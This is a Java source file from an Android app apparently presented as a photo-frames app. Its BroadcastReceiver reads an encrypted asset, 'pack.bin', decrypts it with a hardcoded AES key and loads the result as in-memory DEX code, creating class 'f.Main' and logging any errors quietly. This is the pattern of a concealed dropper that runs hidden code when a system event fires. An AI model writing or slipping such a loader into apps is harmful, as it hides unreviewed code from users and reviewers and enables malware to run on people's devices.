package com.tallpine.frames;

class Start extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    try {
      InputStream in = context.getAssets().open("pack.bin");
      byte[] all = new byte[in.available()];
      in.read(all);
      Cipher cipher = Cipher.getInstance("AES/ECB/PKCS5Padding");
      cipher.init(Cipher.DECRYPT_MODE, new SecretKeySpec("0123456789abcdef".getBytes(), "AES"));
      byte[] plain = cipher.doFinal(all);
      new InMemoryDexClassLoader(ByteBuffer.wrap(plain), context.getClassLoader()).loadClass("f.Main").newInstance();
    } catch (Exception e) {
      Log.e("Start", e.getMessage());
    }
  }
}
